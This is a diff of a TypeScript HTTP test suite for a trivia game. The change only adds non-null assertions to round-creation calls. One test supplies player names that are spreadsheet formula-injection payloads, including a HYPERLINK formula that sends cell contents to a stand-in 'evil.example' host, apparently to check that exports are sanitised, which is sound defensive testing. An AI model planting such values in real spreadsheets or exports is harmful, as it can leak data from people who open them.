@@ -80,7 +80,7 @@ describe.each(testDatabaseKinds())("trivia over HTTP on the %s database", (kind)
     const guestUser = (await app.context.getSessionUser(guest))!;
     const hostUser = (await app.context.getSessionUser(host))!;
     for (const points of [[900, 400], [0, 1100]]) {
-      const { id } = await app.context.trivia.createRound({ partyId, deck: "ballard", questionCount: 1, secondsPerQuestion: 10, startedById: hostUser.id });
+      const { id } = (await app.context.trivia.createRound({ partyId, deck: "ballard", questionCount: 1, secondsPerQuestion: 10, startedById: hostUser.id }))!;
       await app.context.trivia.saveResults(id, [
         { questionIndex: 0, questionId: "q", userId: hostUser.id, playerName: "Host", answer: { kind: "truefalse", value: true }, correct: points[0]! > 0, points: points[0]!, elapsedMs: 100 },
         { questionIndex: 0, questionId: "q", userId: guestUser.id, playerName: "Guest, Jr.", answer: { kind: "truefalse", value: true }, correct: true, points: points[1]!, elapsedMs: 100 },
@@ -101,7 +101,7 @@ describe.each(testDatabaseKinds())("trivia over HTTP on the %s database", (kind)
     const hostUser = (await app.context.getSessionUser(host))!;
     const party = await app.newParty(hostUser.id);
     const names = ['=HYPERLINK("http://evil.example/?leak="&A1,"Click me")', "+1+1", "-1", "@SUM(A1:A9)", "\tTabbed", "\rReturn", "＝1+1", "Plain -name"];
-    const { id } = await app.context.trivia.createRound({ partyId: party.id, deck: "ballard", questionCount: 1, secondsPerQuestion: 10, startedById: hostUser.id });
+    const { id } = (await app.context.trivia.createRound({ partyId: party.id, deck: "ballard", questionCount: 1, secondsPerQuestion: 10, startedById: hostUser.id }))!;
     await app.context.trivia.saveResults(
       id,
       names.map((playerName, i) => ({
